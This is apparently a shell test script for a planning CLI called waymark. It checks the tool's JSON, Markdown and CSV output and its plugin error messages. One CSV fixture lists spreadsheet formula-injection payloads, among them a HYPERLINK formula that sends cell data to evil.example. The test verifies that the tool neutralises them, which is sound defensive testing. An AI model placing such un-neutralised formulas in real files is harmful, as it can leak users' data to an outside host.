#!/bin/sh
# plan.sh WAYMARK SOURCE_DIR - `waymark plan` and `waymark plugins`: the JSON
# carries every field of plan.md, CSV quotes by RFC 4180 and neutralises
# formulas, Markdown totals add up, output is reproducible, plugin
# configuration errors have positions.
set -u
bin=$1 src=$2
dir="$src/tests/cli/plan"
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT
fail=0
bad() { echo "FAIL: $*"; fail=1; }
ok() { echo "ok: $*"; }

for f in "$src"/samples/*.yaml; do
    name=$(basename "$f" .yaml)
    "$bin" plan "$f" >"$tmp/$name.json" 2>"$tmp/$name.err" || { bad "$name: plan failed"; cat "$tmp/$name.err"; continue; }
    "$bin" plan "$f" >"$tmp/$name.2.json" 2>/dev/null
    cmp -s "$tmp/$name.json" "$tmp/$name.2.json" && ok "$name: byte-identical twice" || bad "$name: output differs between runs"
    # Every field plan.md lists, present (null allowed only where plan.md allows it).
    jq -e '
      .format == "waymark-plan/1" and (.client | has("name") and has("short_name"))
      and (.currency | type == "string") and (.quarters | length > 0)
      and (.plugins | length >= 4 and all(has("name") and has("version") and (.sha256 | length == 64)))
      and (.initiatives | all(
            (keys_unsorted | contains(["id","title","rank","tier","method","score","score_inputs",
              "effort","effort_days","labour","other","contingency","cost","status","start","end",
              "allocation","reason","reason_kind"]))
            and (.status == "scheduled" and .start != null and .end != null and (.allocation | type == "object") and .reason == null
                 or .status == "deferred" and .start == null and .allocation == null and (.reason | type == "string"))))
      and ([.initiatives[].rank] == [range(1; (.initiatives | length) + 1)])
      and (.by_quarter | length) == (.quarters | length)
      and (.by_quarter | all((.roles | length) > 0 and has("labour") and has("other") and has("contingency") and has("cost")))
      and (.totals | has("labour") and has("other") and has("contingency") and has("cost") and has("budget")
            and has("variance") and has("p50") and has("p80") and has("p90") and has("p_within_budget")
            and has("contingency_confidence") and has("scheduled") and has("deferred"))
      and ((([.by_quarter[].cost] | add) - .totals.cost) | fabs) <= 1e-6 * .totals.cost
      and (.objectives | all(has("id") and has("deadline") and has("completes") and has("at_risk")))
      and (.risks | all(has("score") and has("band") and (.score == .likelihood * .impact)))
      and (.playbook == null or (.playbook | type == "object"))' "$tmp/$name.json" >/dev/null \
        && ok "$name: JSON has plan.md's fields" || bad "$name: JSON misses plan.md fields"
    "$bin" plan --format md "$f" >"$tmp/$name.md" || bad "$name: md failed"
    # The Markdown's cost by initiative adds up to its total row, and that
    # total is the plan's (totals.cost, in whole units).
    awk -F'|' '/^#### Cost by initiative/ { on = 1; next }
               on && /^#/ { on = 0 }
               on && /^\| [^-]/ && !/\| ID \|/ && !/\*\*Total\*\*/ { gsub(/[^0-9]/, "", $7); sum += $7 }
               on && /\*\*Total\*\*/ { gsub(/[^0-9]/, "", $7); total = $7 }
               END { print sum, total; exit !(sum == total && total > 0) }' "$tmp/$name.md" >"$tmp/sums" \
        && ok "$name: Markdown costs add up to the total" || bad "$name: Markdown costs do not add up"
    want=$(jq '.totals.cost | round' "$tmp/$name.json")
    [ "$(cut -d' ' -f2 "$tmp/sums")" = "$want" ] && ok "$name: the Markdown total is the plan's" ||
        bad "$name: Markdown total $(cut -d' ' -f2 "$tmp/sums"), plan $want"
    # Every section of the document, in order, as the PDF has them.
    "$bin" plan --format doc "$f" | sed -n 's/^section [^:]*: //p' >"$tmp/doc.sections"
    sed -n 's/^## //p' "$tmp/$name.md" >"$tmp/md.sections"
    cmp -s "$tmp/doc.sections" "$tmp/md.sections" && ok "$name: Markdown has every section" ||
        bad "$name: Markdown sections differ from the document's"
done

"$bin" plan --format csv "$dir/quoting.yaml" >"$tmp/q.csv" || bad "csv failed"
head -1 "$tmp/q.csv" | grep -q '^rank,id,title,tier,score,effort_days,cost,status,start,end,reason' \
    && ok "csv header" || bad "csv header"
grep -q '"Title with a comma, a ""quote"" and a | pipe"' "$tmp/q.csv" && ok "csv quoting" || bad "csv quoting"
[ "$(wc -l <"$tmp/q.csv")" -eq 3 ] && ok "csv: one row per initiative" || bad "csv row count"
grep -q "$(printf '\r$')" "$tmp/q.csv" && ok "csv: CRLF line ends" || bad "csv line ends"
# Titles a spreadsheet would run as formulas are written as quoted text
# behind a single quote (OWASP); the numbers beside them stay numbers.
"$bin" plan --format csv "$dir/formulas.yaml" >"$tmp/f.csv" || bad "csv of formulas failed"
cat >"$tmp/f.want" <<'EOF2'
1,A,"'=1+2",should,0,10,5000,scheduled,2027-Q1,2027-Q1,,,,EUR
2,B,"'+1+2",should,0,10,5000,scheduled,2027-Q1,2027-Q1,,,,EUR
3,C,"'-1+2",should,0,10,5000,scheduled,2027-Q1,2027-Q1,,,,EUR
4,D,"'@SUM(A1:A2)",should,0,10,5000,scheduled,2027-Q1,2027-Q1,,,,EUR
5,E,"'=HYPERLINK(""http://evil.example/?d=""&A1,""Report"")",should,0,10,5000,scheduled,2027-Q1,2027-Q1,,,,EUR
EOF2
tail -n +2 "$tmp/f.csv" | tr -d '\r' | cmp -s - "$tmp/f.want" && ok "csv: formulas neutralised" ||
    { bad "csv: formulas not neutralised"; cat "$tmp/f.csv"; }
"$bin" plan --format md "$dir/quoting.yaml" | grep -q 'a \\| pipe' && ok "md escapes pipes" || bad "md pipe escape"

"$bin" plan "$dir/bad_config.yaml" >"$tmp/out" 2>"$tmp/err"
[ $? -eq 1 ] && ok "bad plugin references exit 1" || bad "bad plugin references: wrong exit"
[ -s "$tmp/out" ] && bad "output written despite errors"
grep -q "bad_config.yaml:12:5: error: plugin 'prioritise/nonexistent' not found" "$tmp/err" && ok "unknown plugin named with position" || { bad "unknown plugin message"; cat "$tmp/err"; }
grep -q "bad_config.yaml:13:5: error: plugin './plugins/missing.lua' not found" "$tmp/err" && ok "missing plugin path with position" || bad "missing path message"
# A private module (a part starting with '_') is never a plugin, even when
# named in full: it is refused as not found, with a hint saying why.
head -11 "$dir/bad_config.yaml" | sed '/^plugins:/,$d' >"$tmp/private.yaml"
printf 'plugins:\n  - prioritise/_inputs\n' >>"$tmp/private.yaml"
"$bin" plan "$tmp/private.yaml" >/dev/null 2>"$tmp/err"
[ $? -eq 1 ] && ok "a private module named as a plugin exits 1" || bad "private module: wrong exit"
grep -q "error: plugin 'prioritise/_inputs' not found" "$tmp/err" &&
    grep -q "hint: a part starting with '_' is a plugin's private module" "$tmp/err" &&
    ok "a private module is not a plugin, and the hint says so" ||
    { bad "private module message"; cat "$tmp/err"; }
# With the bad references gone, the config errors show (they need the plugin loaded).
head -11 "$dir/bad_config.yaml" >"$tmp/cfg.yaml"
"$bin" plan "$tmp/cfg.yaml" >/dev/null 2>"$tmp/err"
[ $? -eq 1 ] && ok "bad plugin config exits 1" || bad "bad config exit"
grep -q "cfg.yaml:11:38: error: unknown key 'iteratons' in the config of plugin 'estimate/pert' (did you mean 'iterations'?)" "$tmp/err" \
    && ok "unknown config key with did-you-mean" || { bad "config key message"; cat "$tmp/err"; }
grep -q "cfg.yaml:11:60: error: expected a number for 'estimate/pert config.seed', got 'many'" "$tmp/err" \
    && ok "config type error with position" || { bad "config type message"; cat "$tmp/err"; }

"$bin" plan "$dir/user_plugin.yaml" >"$tmp/u.json" 2>"$tmp/err" || bad "user plugin plan failed"
grep -q "user_plugin.yaml:12:5: warning: initiatives\[1\]: A is smaller than 1.5 days (plugin 'flag_small')" "$tmp/err" \
    && ok "user validate hook warns with config" || { bad "user validate message"; cat "$tmp/err"; }
[ "$(jq -r '[.initiatives[].id] | join(",")' "$tmp/u.json")" = "B,A" ] && ok "user prioritiser replaces the default" || bad "exclusive prioritise"
jq -e '[.plugins[].name] | index("prioritise/wsjf") == null and index("flag_small") != null' "$tmp/u.json" >/dev/null \
    && ok "the replaced prioritiser did not run" || bad "plugins list in plan"

"$bin" plugins list >"$tmp/list" || bad "plugins list"
for p in estimate/pert prioritise/wsjf prioritise/rice prioritise/weighted schedule/capacity risks/register; do
    grep -q "^$p " "$tmp/list" || bad "plugins list lacks $p"
done
grep -q "_inputs" "$tmp/list" && bad "private module listed as a plugin"
ok "plugins list"
"$bin" plugins info estimate/pert >"$tmp/info" || bad "plugins info"
grep -q "iterations *integer *default 10000" "$tmp/info" && ok "plugins info shows config" || { bad "plugins info"; cat "$tmp/info"; }
"$bin" plugins list --engagement "$dir/user_plugin.yaml" | grep -q "^flag_small .*local" \
    && ok "engagement-local plugins listed" || bad "local plugins"
"$bin" plugins info no/such >/dev/null 2>&1; [ $? -eq 1 ] && ok "unknown plugin info exits 1" || bad "info exit"

# A config default that breaks its own schema is the plugin's fault (exit 3).
sed 's|./plugins/flag_small.lua, config: { below: 1.5 }|./plugins/bad_default.lua|' \
    "$dir/user_plugin.yaml" >"$dir/.bad_default.yaml"
"$bin" plan "$dir/.bad_default.yaml" >/dev/null 2>"$tmp/err"; rc=$?
rm -f "$dir/.bad_default.yaml"
[ $rc -eq 3 ] && grep -q "config option 'weight': the default is not of type number" "$tmp/err" \
    && ok "config defaults are checked" || { bad "config default check (exit $rc)"; cat "$tmp/err"; }
# A mistyped name gets a hint about names, not about paths.
sed 's|{ name: ./plugins/flag_small.lua, config: { below: 1.5 } }|Prioritise/WSJF|' \
    "$dir/user_plugin.yaml" >"$tmp/name.yaml"
"$bin" plan "$tmp/name.yaml" >/dev/null 2>"$tmp/err"
grep -q "hint: a plugin is named like 'prioritise/rice'" "$tmp/err" && ok "plugin name hint" \
    || { bad "plugin name hint"; cat "$tmp/err"; }
# A hand-built document is checked as a whole when the hook returns.
sed 's|{ name: ./plugins/flag_small.lua, config: { below: 1.5 } }|./plugins/hand_document.lua|' \
    "$dir/user_plugin.yaml" >"$dir/.hand.yaml"
"$bin" plan "$dir/.hand.yaml" >/dev/null 2>"$tmp/err"; rc=$?
rm -f "$dir/.hand.yaml"
[ $rc -eq 3 ] && grep -q "invalid document: sections\[1\].blocks\[1\].text: text is missing" "$tmp/err" \
    && ok "document results are checked" || { bad "document check (exit $rc)"; cat "$tmp/err"; }
exit $fail
